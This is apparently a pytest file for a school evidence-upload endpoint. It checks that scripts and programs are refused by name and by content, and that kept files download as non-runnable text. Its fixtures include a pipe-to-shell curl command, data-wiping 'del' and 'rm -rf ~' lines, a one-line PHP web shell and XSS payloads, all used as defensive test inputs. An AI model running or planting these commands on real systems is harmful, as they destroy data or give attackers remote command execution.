"""Uploads refuse scripts and programs, by name and by content; what is kept downloads as an
attachment that can't run (nosniff, no runnable extension)."""

from __future__ import annotations

import pytest
from sqlalchemy import func, select

from api.evidence.models import Evidence
from api.extensions import db
from tests.evidence.helpers import upload

SCRIPT_NAMES = [
    ("steal.js", b"fetch('/api/v1/me').then(r => r.text())"),
    ("cleanup.bat", b"del /q *.*\r\n"),
    ("run.exe", b"just text, but named as a program"),
    ("install.sh", b"curl example.com | sh\n"),
    ("page.html", b"plain words in a page"),
    ("notes.HTML", b"plain words"),
    ("report.pdf.exe", b"more text"),
    ("poster.svg", b"a drawing"),
    ("tool.ps1", b"Get-ChildItem"),
]

SCRIPT_CONTENTS = [
    b"@echo off\r\ndel /q C:\\*.*\r\n",
    b"#!/bin/sh\nrm -rf ~\n",
    b"<?php system($_GET['c']); ?>",
    b"<svg onload=alert(1)></svg>",
    b"<script>alert(1)</script>",
]


@pytest.mark.parametrize(("name", "content"), SCRIPT_NAMES, ids=[n for n, _ in SCRIPT_NAMES])
def test_a_runnable_file_name_is_refused_and_nothing_is_kept(
    client_for, make_cycle, school, local_store, name, content
):
    cycle = make_cycle(school.team, state="evidence")
    response = upload(client_for(school.teacher), cycle, content, name, title="Evidence")
    assert response.status_code == 415
    assert response.mimetype == "application/problem+json"
    assert db.session.scalar(select(func.count(Evidence.id))) == 0


@pytest.mark.parametrize("content", SCRIPT_CONTENTS)
def test_a_script_named_as_text_is_refused_by_its_content(
    client_for, make_cycle, school, local_store, content
):
    cycle = make_cycle(school.team, state="evidence")
    response = upload(client_for(school.teacher), cycle, content, "notes.txt", title="Notes")
    assert response.status_code == 415
    assert db.session.scalar(select(func.count(Evidence.id))) == 0


def test_plain_notes_are_still_welcome(client_for, make_cycle, school, local_store):
    cycle = make_cycle(school.team, state="evidence")
    response = upload(
        client_for(school.teacher),
        cycle,
        b"Most students named one strategy.\n",
        "notes.txt",
        title="Notes",
    )
    assert response.status_code == 201, response.get_json()


def test_a_runnable_name_kept_before_the_rule_downloads_as_text_that_cannot_run(
    client_for, make_cycle, school, local_store
):
    cycle = make_cycle(school.team, state="evidence")
    teacher = client_for(school.teacher)
    created = upload(teacher, cycle, b"alert(1)\n", "notes.txt", title="Old").get_json()
    evidence = db.session.get(Evidence, created["id"])
    evidence.original_name = "steal.js"  # as a file uploaded before names were checked
    db.session.commit()
    response = teacher.get(created["download_url"])
    assert response.status_code == 200
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "steal.js.txt" in disposition
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.mimetype == "text/plain"
